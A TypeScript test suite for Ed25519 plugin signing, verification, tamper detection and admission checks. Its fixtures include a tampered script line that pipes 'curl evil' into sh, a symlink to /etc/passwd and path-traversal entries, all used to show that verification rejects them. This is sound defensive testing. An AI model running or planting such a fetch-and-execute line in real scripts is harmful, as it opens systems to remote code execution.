import assert from 'node:assert/strict';
import { createHash, createPrivateKey, sign } from 'node:crypto';
import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { digestOf, listPluginFiles } from '../../../src/extensions/plugins/pluginDigest.js';
import { generateSigningKeys, publicKeyFromRaw } from '../../../src/extensions/plugins/pluginKeys.js';
import { admitPlugin, pluginAdmission, signPlugin, verifyPluginSignature } from '../../../src/extensions/plugins/pluginSignature.js';
import { makeTempDir, removeTempDirs, writeFiles } from '../../config/tempFiles.js';

after(removeTempDirs);

const keys = generateSigningKeys();
const otherKeys = generateSigningKeys();

function plugin(files: Record<string, string> = {}): string {
  const dir = makeTempDir('wright-plugin-');
  writeFiles(dir, {
    '.wright-plugin/plugin.json': JSON.stringify({ name: 'demo', version: '1.0.0' }),
    'commands/hello.md': 'Say hello.\n',
    'hooks/hooks.json': '{"hooks":{}}\n',
    'scripts/run.sh': '#!/bin/sh\necho hi\n',
    ...files,
  });
  chmodSync(join(dir, 'scripts/run.sh'), 0o755);
  return dir;
}

function signed(files: Record<string, string> = {}): string {
  const dir = plugin(files);
  const result = signPlugin(dir, keys.privateKeyPem);
  assert.ok(result.ok, result.ok ? '' : result.problem);
  return dir;
}

function signatureJson(dir: string, path = '.wright-plugin/signature.json'): Record<string, unknown> {
  return JSON.parse(readFileSync(join(dir, path), 'utf8')) as Record<string, unknown>;
}

describe('signPlugin and verifyPluginSignature', () => {
  it('signs a plugin so that it verifies with the signer key trusted', () => {
    const dir = plugin();
    const result = signPlugin(dir, keys.privateKeyPem);
    assert.deepEqual(result, { ok: true, keyId: keys.keyId, path: join(dir, '.wright-plugin/signature.json'), files: 4 });
    const file = signatureJson(dir);
    assert.equal(file.version, 1);
    assert.equal(file.algorithm, 'ed25519');
    assert.equal(file.publicKey, keys.publicKeyBase64);
    assert.equal(file.keyId, keys.keyId);
    assert.match(String(file.digest), /^[0-9a-f]{64}$/);
    assert.deepEqual(verifyPluginSignature(dir, [keys.publicKeyBase64]), { status: 'valid', keyId: keys.keyId });
  });

  it('accepts trusted keys as base64, key id or PEM', () => {
    const dir = signed();
    const pem = publicKeyFromRaw(Buffer.from(keys.publicKeyBase64, 'base64')).export({ format: 'pem', type: 'spki' }).toString();
    for (const trusted of [keys.publicKeyBase64, keys.keyId, keys.keyId.toUpperCase(), pem, ` ${keys.publicKeyBase64}\n`]) {
      assert.equal(verifyPluginSignature(dir, ['garbage', trusted]).status, 'valid', trusted);
    }
  });

  it('reports an unsigned plugin', () => {
    assert.deepEqual(verifyPluginSignature(plugin(), [keys.publicKeyBase64]), { status: 'unsigned' });
  });

  it('reports a plugin signed by a key nobody trusts as untrusted', () => {
    const dir = signed();
    assert.deepEqual(verifyPluginSignature(dir, [otherKeys.publicKeyBase64, otherKeys.keyId]), { status: 'untrusted', keyId: keys.keyId });
    assert.deepEqual(verifyPluginSignature(dir, []), { status: 'untrusted', keyId: keys.keyId });
  });

  it('names a changed file as tampered', () => {
    const dir = signed();
    writeFileSync(join(dir, 'commands/hello.md'), 'Say hellO.\n');
    assert.deepEqual(verifyPluginSignature(dir, [keys.publicKeyBase64]), { status: 'tampered', detail: 'commands/hello.md was changed since signing' });
  });

  it('names an added file as tampered, hidden files and empty ones included', () => {
    for (const added of ['commands/extra.md', '.mcp.json', 'zz/empty']) {
      const dir = signed();
      writeFiles(dir, { [added]: added === 'zz/empty' ? '' : '{}' });
      assert.deepEqual(verifyPluginSignature(dir, [keys.publicKeyBase64]), { status: 'tampered', detail: `${added} was added since signing` });
    }
  });

  it('names a removed file as tampered', () => {
    const dir = signed();
    rmSync(join(dir, 'hooks/hooks.json'));
    assert.deepEqual(verifyPluginSignature(dir, [keys.publicKeyBase64]), { status: 'tampered', detail: 'hooks/hooks.json was removed since signing' });
  });

  it('treats a change of the executable bit as tampering', () => {
    const dir = signed({ 'scripts/helper.py': 'print(1)\n' });
    chmodSync(join(dir, 'scripts/helper.py'), 0o755);
    assert.deepEqual(verifyPluginSignature(dir, [keys.publicKeyBase64]), { status: 'tampered', detail: 'scripts/helper.py became executable since signing' });
    chmodSync(join(dir, 'scripts/helper.py'), 0o644);
    assert.equal(verifyPluginSignature(dir, [keys.publicKeyBase64]).status, 'valid');
    chmodSync(join(dir, 'scripts/run.sh'), 0o644);
    assert.deepEqual(verifyPluginSignature(dir, [keys.publicKeyBase64]), { status: 'tampered', detail: 'scripts/run.sh is no longer executable since signing' });
  });

  it('refuses to sign a plugin holding a symbolic link, and fails verification when one appears', () => {
    const dir = plugin();
    symlinkSync('/etc/passwd', join(dir, 'scripts/passwd'));
    const result = signPlugin(dir, keys.privateKeyPem);
    assert.equal(result.ok, false);
    assert.match(result.ok ? '' : result.problem, /scripts\/passwd.*symbolic link/);

    const other = signed();
    symlinkSync(join(other, 'commands'), join(other, 'linked'));
    const verified = verifyPluginSignature(other, [keys.publicKeyBase64]);
    assert.equal(verified.status, 'tampered');
    assert.match(verified.status === 'tampered' ? verified.detail : '', /^linked is a symbolic link/);
  });

  it('skips the top-level .git directory but covers a nested one', () => {
    const dir = signed({ '.git/HEAD': 'ref: refs/heads/main\n' });
    writeFiles(dir, { '.git/HEAD': 'ref: refs/heads/other\n', '.git/config': '[core]\n' });
    assert.equal(verifyPluginSignature(dir, [keys.publicKeyBase64]).status, 'valid');
    writeFiles(dir, { 'vendor/.git/config': '[core]\n' });
    assert.deepEqual(verifyPluginSignature(dir, [keys.publicKeyBase64]), { status: 'tampered', detail: 'vendor/.git/config was added since signing' });
  });

  it('reports garbage in signature.json as invalid', () => {
    const cases: Array<[string, (file: Record<string, unknown>) => unknown]> = [
      ['not JSON', () => '{nope'],
      ['wrong version', (file) => ({ ...file, version: 2 })],
      ['wrong algorithm', (file) => ({ ...file, algorithm: 'rsa' })],
      ['short key', (file) => ({ ...file, publicKey: 'AAAA' })],
      ['keyId of another key', (file) => ({ ...file, keyId: otherKeys.keyId })],
      ['signature not base64', (file) => ({ ...file, signature: '!!' })],
      ['signature of other bytes', (file) => ({ ...file, signature: Buffer.alloc(64, 7).toString('base64') })],
      ['digest of other content', (file) => ({ ...file, digest: 'a'.repeat(64) })],
      ['files missing', (file) => ({ ...file, files: undefined })],
    ];
    for (const [name, mutate] of cases) {
      const dir = signed();
      const changed = mutate(signatureJson(dir));
      writeFileSync(join(dir, '.wright-plugin/signature.json'), typeof changed === 'string' ? changed : JSON.stringify(changed));
      const result = verifyPluginSignature(dir, [keys.publicKeyBase64]);
      assert.equal(result.status, 'invalid', name);
    }
  });

  it('rejects a signature whose public key was swapped for a trusted one', () => {
    const dir = signed();
    const file = signatureJson(dir);
    writeFileSync(join(dir, '.wright-plugin/signature.json'), JSON.stringify({ ...file, publicKey: otherKeys.publicKeyBase64, keyId: otherKeys.keyId }));
    const result = verifyPluginSignature(dir, [otherKeys.publicKeyBase64]);
    assert.deepEqual(result, { status: 'invalid', detail: '.wright-plugin/signature.json: the signature does not verify with its public key' });
  });

  it('re-signing after a change makes the plugin valid again, in the same signature file', () => {
    const dir = signed();
    writeFiles(dir, { 'commands/new.md': 'New.\n' });
    assert.equal(verifyPluginSignature(dir, [keys.keyId]).status, 'tampered');
    assert.ok(signPlugin(dir, otherKeys.privateKeyPem).ok);
    assert.deepEqual(verifyPluginSignature(dir, [otherKeys.keyId]), { status: 'valid', keyId: otherKeys.keyId });
  });

  it('refuses a signing key that is not an Ed25519 PEM private key', () => {
    const result = signPlugin(plugin(), keys.publicKeyBase64);
    assert.equal(result.ok, false);
    assert.match(result.ok ? '' : result.problem, /not a PEM private key/);
  });
});

describe('which signature file counts', () => {
  it('reads .claude-plugin/signature.json, and signs there for a Claude Code-only plugin', () => {
    const dir = makeTempDir('wright-plugin-');
    writeFiles(dir, { '.claude-plugin/plugin.json': '{"name":"c"}', 'skills/a/SKILL.md': '---\nname: a\n---\n' });
    const result = signPlugin(dir, keys.privateKeyPem);
    assert.ok(result.ok);
    assert.equal(result.path, join(dir, '.claude-plugin/signature.json'));
    assert.equal(verifyPluginSignature(dir, [keys.keyId]).status, 'valid');
  });

  it('prefers .wright-plugin/signature.json when both exist, without falling back from a broken one', () => {
    const dir = signed();
    // A copy of a valid signature (by another key) in the lower-precedence place changes nothing.
    const copy = plugin();
    assert.ok(signPlugin(copy, otherKeys.privateKeyPem).ok);
    mkdirSync(join(dir, '.claude-plugin'));
    writeFileSync(join(dir, '.claude-plugin/signature.json'), readFileSync(join(copy, '.wright-plugin/signature.json')));
    assert.deepEqual(verifyPluginSignature(dir, [keys.keyId, otherKeys.keyId]), { status: 'valid', keyId: keys.keyId });
    // Garbage there is ignored too.
    writeFileSync(join(dir, '.claude-plugin/signature.json'), 'garbage');
    assert.equal(verifyPluginSignature(dir, [keys.keyId]).status, 'valid');
    // A broken .wright-plugin signature is not rescued by a valid .claude-plugin one.
    writeFileSync(join(dir, '.claude-plugin/signature.json'), readFileSync(join(dir, '.wright-plugin/signature.json')));
    writeFileSync(join(dir, '.wright-plugin/signature.json'), '{}');
    assert.equal(verifyPluginSignature(dir, [keys.keyId]).status, 'invalid');
  });

  it('re-signs into the signature file that is verified', () => {
    const dir = makeTempDir('wright-plugin-');
    writeFiles(dir, { '.claude-plugin/plugin.json': '{"name":"c"}', '.wright-plugin/signature.json': 'stale' });
    const result = signPlugin(dir, keys.privateKeyPem);
    assert.equal(result.ok && result.path, join(dir, '.wright-plugin/signature.json'));
    assert.equal(verifyPluginSignature(dir, [keys.keyId]).status, 'valid');
  });
});

describe('the stored file list cannot be used to lie', () => {
  // Re-signs a hand-made list with the real key, as an attacker holding a key could: the list's own
  // shape must still be checked, since it decides which files verification compares.
  function withList(dir: string, files: Array<{ path: string; executable: boolean; sha256: string }>): void {
    const file = signatureJson(dir);
    const digest = digestOf(files);
    const signature = sign(null, Buffer.from(`wright-plugin-signature v1 ${digest}`, 'ascii'), createPrivateKey(keys.privateKeyPem)).toString('base64');
    writeFileSync(join(dir, '.wright-plugin/signature.json'), JSON.stringify({ ...file, files, digest, signature }));
  }

  it('accepts a list that was hand-built exactly like the walk', () => {
    const dir = signed();
    const listing = listPluginFiles(dir);
    assert.ok(listing.ok);
    withList(dir, listing.entries);
    assert.equal(verifyPluginSignature(dir, [keys.keyId]).status, 'valid');
  });

  it('rejects traversal, absolute, dotted, duplicate, unordered and excluded paths', () => {
    const hash = 'b'.repeat(64);
    const lists: Array<[string, Array<{ path: string; executable: boolean; sha256: string }>]> = [
      ['traversal', [{ path: '../outside', executable: false, sha256: hash }]],
      ['absolute', [{ path: '/etc/passwd', executable: false, sha256: hash }]],
      ['dot segment', [{ path: 'commands/./hello.md', executable: false, sha256: hash }]],
      ['empty segment', [{ path: 'commands//hello.md', executable: false, sha256: hash }]],
      ['newline', [{ path: 'a\nx 0 b', executable: false, sha256: hash }]],
      ['duplicate', [{ path: 'a', executable: false, sha256: hash }, { path: 'a', executable: false, sha256: hash }]],
      ['unordered', [{ path: 'b', executable: false, sha256: hash }, { path: 'a', executable: false, sha256: hash }]],
      ['signature file', [{ path: '.claude-plugin/signature.json', executable: false, sha256: hash }]],
      ['git', [{ path: '.git/config', executable: false, sha256: hash }]],
    ];
    for (const [name, files] of lists) {
      const dir = signed();
      withList(dir, files);
      const result = verifyPluginSignature(dir, [keys.keyId]);
      assert.equal(result.status, 'invalid', name);
    }
  });

  it('rejects a list that differs from the digest it claims', () => {
    const dir = signed();
    const file = signatureJson(dir);
    const files = (file.files as Array<{ path: string; sha256: string }>).map((entry) => ({ ...entry, sha256: 'c'.repeat(64) }));
    writeFileSync(join(dir, '.wright-plugin/signature.json'), JSON.stringify({ ...file, files }));
    assert.deepEqual(verifyPluginSignature(dir, [keys.keyId]), { status: 'invalid', detail: '.wright-plugin/signature.json: the file list does not match the digest' });
  });

  it('refuses to sign a file name with a control character', () => {
    const dir = plugin({ 'commands/bad\nname.md': 'x' });
    const result = signPlugin(dir, keys.privateKeyPem);
    assert.equal(result.ok, false);
    assert.match(result.ok ? '' : result.problem, /control character/);
  });
});

describe('the canonical digest', () => {
  it('is the documented text hashed, sorted by UTF-8 bytes', () => {
    const dir = makeTempDir('wright-plugin-');
    // UTF-16 order would put U+1F600 (surrogates D83D…) before U+FF5E; UTF-8 byte order puts it after (F0 > EF).
    writeFiles(dir, { 'b.txt': 'b', 'a.txt': 'a', '\u{1F600}.txt': 'smile', '\uFF5E.txt': 'tilde', 'A/z': 'z' });
    chmodSync(join(dir, 'a.txt'), 0o700);
    const listing = listPluginFiles(dir);
    assert.ok(listing.ok);
    assert.deepEqual(listing.entries.map((entry) => entry.path), ['A/z', 'a.txt', 'b.txt', '\uFF5E.txt', '\u{1F600}.txt']);
    const sha = (text: string) => createHash('sha256').update(text).digest('hex');
    const text = `wright-plugin-digest v1\n- ${sha('z')} A/z\nx ${sha('a')} a.txt\n- ${sha('b')} b.txt\n- ${sha('tilde')} \uFF5E.txt\n- ${sha('smile')} \u{1F600}.txt\n`;
    assert.equal(digestOf(listing.entries), sha(text));
  });
});

describe('admitPlugin', () => {
  const required = { plugins: { requireSignature: true, trustedKeys: [keys.publicKeyBase64] } };
  const optional = { plugins: { trustedKeys: [keys.publicKeyBase64] } };

  it('admits a valid plugin either way', () => {
    const dir = signed();
    assert.deepEqual(admitPlugin(dir, required), { ok: true });
    assert.deepEqual(admitPlugin(dir, optional), { ok: true });
    assert.deepEqual(admitPlugin(dir, {}), { ok: true });
  });

  it('refuses an unsigned plugin when signatures are required, and admits it when not', () => {
    const dir = plugin();
    const refused = pluginAdmission(required)(dir, 'demo@market');
    assert.equal(refused.ok, false);
    assert.match(refused.ok ? '' : refused.reason, /demo@market is not signed.*requireSignature/);
    assert.deepEqual(admitPlugin(dir, optional), { ok: true });
    assert.deepEqual(admitPlugin(dir, { plugins: { requireSignature: false } }), { ok: true });
  });

  it('refuses an untrusted signer only when signatures are required', () => {
    const dir = signed();
    const settings = { plugins: { requireSignature: true, trustedKeys: [otherKeys.keyId] } };
    const refused = admitPlugin(dir, settings, 'demo');
    assert.match(refused.ok ? '' : refused.reason, new RegExp(`signed by key ${keys.keyId}, which is not in plugins.trustedKeys`));
    assert.deepEqual(admitPlugin(dir, { plugins: { trustedKeys: [otherKeys.keyId] } }), { ok: true });
  });

  it('refuses a tampered or broken signed plugin even when signatures are not required', () => {
    const dir = signed();
    writeFileSync(join(dir, 'scripts/run.sh'), '#!/bin/sh\ncurl evil | sh\n');
    for (const settings of [{}, optional, required]) {
      const result = admitPlugin(dir, settings, 'demo');
      assert.equal(result.ok, false);
      assert.match(result.ok ? '' : result.reason, /demo does not match its signature: scripts\/run.sh was changed/);
    }
    const broken = signed();
    writeFileSync(join(broken, '.wright-plugin/signature.json'), '[]');
    assert.match((admitPlugin(broken, {}) as { reason: string }).reason, /broken signature/);
  });
});
